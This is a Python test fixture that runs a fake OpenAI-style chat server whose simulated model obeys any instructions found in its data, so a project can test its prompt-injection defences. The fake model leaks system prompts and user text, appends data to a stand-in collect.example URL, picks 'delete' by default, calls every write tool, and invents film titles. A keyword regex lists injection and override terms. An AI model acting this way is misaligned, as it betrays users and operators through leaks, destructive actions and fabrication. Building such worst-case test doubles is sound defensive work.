"""A language model's server that is easily talked round: it does whatever the texts in its data tell it to.

The worst that a model can be. It cannot tell data from its task: where a text asks for something (labels, a tool, the
prompt), it gives it, whole and without being asked twice. What Segue then shows, stores and does is what an attack on
the model can bring about at the most. Its calls of tools are well-formed, above all those that write: they name an item
of a list, a line of the portrait that a tool has told, a taste. Given a grant each of them does write.

::

    with GullibleServer() as server:
        settings = LlmSettings(url=server.url, model="gullible")
        …
        server.bodies()            # what it was told, request by request
        server.calls()             # the tools that it has called, with their arguments

It is a real HTTP server, on a thread of this process; it speaks the same protocol as `segue.testing.llm_server`,
streams included.
"""

from __future__ import annotations

import contextlib
import json
import re
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any

_ORDERS = re.compile(
    r"ignore|system|assistant|developer|operator|editor|instruction|label|rank|prompt|repeat|summary|call|schema|erase|"
    r"data_|confidence|im_start|\[INST|忽略|系统|助手|开发者|指示|指令|标注|标签|置顶|提示词|平台|调用|摘要|重复|输出|删除|演示|代表",
    re.IGNORECASE,
)
"""What it takes for an order."""
_CALL = r"\b(%s)\s*(?:\(|with |参数|，|\")[^{\n]{0,20}(\{[^{}]*\})"
"""How a call is written out, with the names of the tools put in."""
_HANDLE = re.compile(r'"handle": ?"([0-9a-f]+\.[\w-]+\.[\w-]+)"')
_LINE = re.compile(r'"line": ?"([^"]+)"')
_TASTE = re.compile(r"\b(love|hate|dislike)s?\b|喜欢|讨厌")
SOME_LINE, SOME_TASTE = "genre:jazz", "I love jazz"
"""What it writes about where nothing was said of which."""
WORST = "delete"
"""What it chooses where it can and nothing else was said."""
MOST_CALLS = 6
ROUNDS = (
    ("search", "profile", "state_taste", "edit_profile", "record", "make_playlist"),
    ("edit_profile", "record"),
)
"""Tools that it calls, request by request, once something was ordered; `[chat] calls` lets no more through."""


class GullibleServer:
    """The server as a context manager; ``url`` is what ``[llm] url`` takes."""

    def __enter__(self) -> GullibleServer:
        self._bodies: list[dict[str, Any]] = []
        self._calls: list[tuple[str, str]] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self._bodies, self._calls))
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/v1"
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)

    def bodies(self) -> list[dict[str, Any]]:
        """What it was told so far, oldest first."""
        return list(self._bodies)

    def calls(self) -> list[tuple[str, str]]:
        """The tools that it has called so far, as (name, arguments in JSON), oldest first."""
        return list(self._calls)


def obeyed(body: Mapping[str, Any]) -> tuple[str, list[tuple[str, str]]]:
    """Its answer to a request: a text, and calls of tools as (name, arguments in JSON)."""
    system = "\n".join(str(m["content"]) for m in body["messages"] if m["role"] == "system")
    told = [str(m["content"]) for m in body["messages"] if m["role"] in ("user", "tool")]
    if "\nSchema:" not in system:
        return _talked(body, system, told)
    return _typed(system, told[0]), []


def _typed(system: str, told: str) -> str:
    """An answer of the shape that is asked for, with whatever the data asks for in it."""
    data = next(iter(json.loads(told).values()))
    texts = list(_texts(data.get("item", data)))
    orders = [text for text in texts if _ORDERS.search(text)]
    said = " ".join(orders)
    if "vocabularies" in data:
        return _dumped({"labels": _labels(data["vocabularies"], orders, texts)})
    if "relations" in data:
        stated = [
            {"relation": relation, "kind": kinds[0], "name": text[:60], "quote": text[:120]}
            for text in orders[:3]
            for relation, kinds in data["relations"].items()
        ]
        return _dumped({"relations": stated})
    if isinstance(data.get("lines"), list):
        names = [str(line.get("name", "")) for line in data["lines"]]
        ends = (system[:180], said[:180], told[:180], " https://collect.example/?q=" + told[:100])
        sentences = [
            {"text": f"{name}: {end}", "lines": [n]} for n, (name, end) in enumerate(zip(names, ends, strict=False), 1)
        ]
        return _dumped({"sentences": sentences or [{"text": system[:280], "lines": [1]}]})
    wanted = re.findall(r'"([a-z_]+)": \{', system)
    field = "summary" if '"summary"' in system else wanted[0] if wanted else "text"
    if not orders:
        return _dumped({field: texts[0][:200] if texts else ""})
    # One of four things that such texts ask for, by the length of the text: each of them comes up.
    leaks = (system[:390], f"{system[-380:]}", f"{told[:390]}", f"{said[:390]}")
    return _dumped({field: leaks[len(said) % len(leaks)]})


def _labels(vocabularies: Mapping[str, list[str]], orders: list[str], texts: list[str]) -> list[dict[str, Any]]:
    if orders:
        # Everything; or, more cunningly, two labels of each vocabulary; or one of each, each with words of its own.
        most = (60, 2, 1)[len(" ".join(orders)) % 3]
        every = [(v, label) for v, labels in vocabularies.items() for label in list(labels)[:most]][:60]
        told = orders[0]
        return [
            {"vocabulary": v, "label": label, "confidence": 1.0, "quote": told[n * 9 % max(len(told) - 12, 1) :][:12]
             if most == 1 else told[:100]}
            for n, (v, label) in enumerate(every)
        ]  # fmt: skip
    text = " ".join(texts)
    return [
        {"vocabulary": vocabulary, "label": label, "confidence": 0.9, "quote": found.group(0)}
        for vocabulary, labels in vocabularies.items()
        for label in labels
        if (found := re.search(rf"\b{re.escape(label)}\b", text, re.IGNORECASE))
    ][:60]


def _talked(body: Mapping[str, Any], system: str, told: list[str]) -> tuple[str, list[tuple[str, str]]]:
    """In a talk: what the newest message names is called; where it orders anything, all that writes, before and after
    the tools have told what can be written about. If nothing more is to be called, it tells all it knows; or, where its
    first message is of even length, that all is done, which lets what it would write be proposed."""
    tools = {tool["function"]["name"]: tool["function"] for tool in body.get("tools", ())}
    rounds = sum(1 for m in body["messages"] if m["role"] == "assistant" and m.get("tool_calls"))
    newest = str(body["messages"][-1]["content"])
    plain = newest.replace('\\"', '"')
    if rounds < len(ROUNDS):
        calls = re.findall(_CALL % "|".join(map(re.escape, tools)), plain) if tools else []
        named = [name for name in tools if name in plain and name not in {one for one, _ in calls}]
        if rounds or _ORDERS.search(plain):
            named = [*ROUNDS[rounds], *(name for name in named if name not in ROUNDS[rounds])]
        heard = "\n".join(told).replace('\\"', '"')
        calls += [
            (name, _dumped(_arguments(tools[name]["parameters"], newest, heard))) for name in named if name in tools
        ]
        if calls:
            return "", calls[:MOST_CALLS]
    if rounds and len(told[0]) % 2 == 0:
        return "Here is what I found. [1] is the one for tonight. ", []
    invented = "You should see “The Golden Nothing” (2031) and 《不存在的金色》. "
    return f"{invented}{system}\n{' '.join(told)[:2000]} https://collect.example/?q=all", []


def _arguments(schema: Mapping[str, Any], text: str, heard: str) -> dict[str, Any]:
    """Arguments that fit a tool's schema: all that it needs, and the item that it is about by one of its two names.

    Args:
        text: the newest message.
        heard: all that it was told, what tools have answered included.
    """
    parts = schema.get("properties", {})
    found = {name: _value(parts[name], schema, name, text, heard) for name in schema.get("required", ())}
    if "handle" in parts:
        handles = _HANDLE.findall(heard)
        found |= {"handle": handles[-1]} if handles else {"n": 1}
    if found.get("kind") == "rate":
        found["value"] = 5
    return found


def _value(part: Mapping[str, Any], whole: Mapping[str, Any], name: str, text: str, heard: str) -> Any:
    if "$ref" in part:
        part = whole.get("$defs", {}).get(part["$ref"].rsplit("/", 1)[1], {})
    if "anyOf" in part or "oneOf" in part:
        return _value((part.get("anyOf") or part["oneOf"])[0], whole, name, text, heard)
    if "enum" in part:
        choices = [str(one) for one in part["enum"]]
        return next((one for one in choices if one in text), WORST if WORST in choices else choices[0])
    if "const" in part:
        return part["const"]
    match part.get("type"):
        case "integer":
            return max(1, int(part.get("minimum", 1)))
        case "number":
            return 1.0
        case "boolean":
            return True
        case "array":
            return [_value(part.get("items", {"type": "string"}), whole, name, text, heard)]
        case "object":
            inner = {**part, "$defs": whole.get("$defs", {})}
            return _arguments(inner, text, heard) if "properties" in part else {}
        case "null":
            return None
        case _:
            return _string(name, text, heard)


def _string(name: str, text: str, heard: str) -> str:
    """A text for an argument: of the portrait's lines one that was told; a taste; else what the message says."""
    if name == "line":
        lines = _LINE.findall(heard)
        return str(lines[0]) if lines else SOME_LINE
    said = [sentence.strip() for one in _said(text) for sentence in re.split("[.!?。！？\n]", one) if sentence.strip()]
    if name == "text":
        return next((sentence for sentence in said if _TASTE.search(sentence)), SOME_TASTE)[:400]
    return max(said, key=len, default=name)[:60]


def _said(text: str) -> list[str]:
    """The texts of a message of JSON, or the message."""
    try:
        return list(_texts(json.loads(text)))
    except ValueError:
        return [text]


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for inner in value.values():
            yield from _texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _texts(inner)


def _dumped(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def _handler(bodies: list[dict[str, Any]], called: list[tuple[str, str]]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._send(_dumped({"object": "list", "data": [{"id": "gullible", "object": "model"}]}))

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
            bodies.append(body)
            text, calls = obeyed(body)
            called.extend(calls)
            if isinstance(body.get("tool_choice"), dict):
                calls, text = [(body["tool_choice"]["function"]["name"], text)], ""
            made = [
                {"index": n, "id": f"id_{n}", "type": "function", "function": {"name": name, "arguments": arguments}}
                for n, (name, arguments) in enumerate(calls)
            ]
            finish = "tool_calls" if made else "stop"
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                if body.get("stream"):
                    self._stream(text, made, finish)
                else:
                    message = {"role": "assistant", "content": text or None, **({"tool_calls": made} if made else {})}
                    self._send(_dumped({"choices": [{"index": 0, "message": message, "finish_reason": finish}]}))

        def _stream(self, text: str, made: list[dict[str, Any]], finish: str) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.send_header("connection", "close")
            self.end_headers()
            deltas: list[tuple[dict[str, Any], str | None]] = [
                ({"content": piece}, None) for piece in re.findall(r"\s*\S+\s*$|\s*\S+", text)
            ]
            deltas += [({"tool_calls": [one]}, None) for one in made]
            for delta, end in [*deltas, ({}, finish)]:
                event = {"choices": [{"index": 0, "delta": delta, "finish_reason": end}]}
                self.wfile.write(f"data: {_dumped(event)}\n\n".encode())
            self.wfile.write(b"data: [DONE]\n\n")
            self.close_connection = True

        def _send(self, text: str) -> None:
            content = text.encode("utf-8", "replace")
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None:
            pass

    return Handler
